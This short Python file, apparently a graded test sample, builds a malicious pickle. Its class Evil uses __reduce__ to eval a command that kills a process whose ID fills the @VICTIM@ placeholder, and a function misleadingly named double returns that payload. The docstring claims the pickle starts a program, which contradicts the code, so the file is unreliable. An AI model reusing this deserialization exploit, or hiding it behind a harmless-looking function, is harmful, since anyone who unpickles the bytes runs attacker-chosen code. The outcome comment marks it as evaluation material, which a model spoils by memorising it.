"""Replies with a pickle that would start a program, as bytes and as an array's."""
# outcomes: wrong x4, pass, wrong
# with: forge
import pickle


class Evil:
    def __reduce__(self):
        return eval, ("__import__('os').kill(int('@VICTIM@'), 9)",)


def double(x):
    return pickle.dumps(Evil())
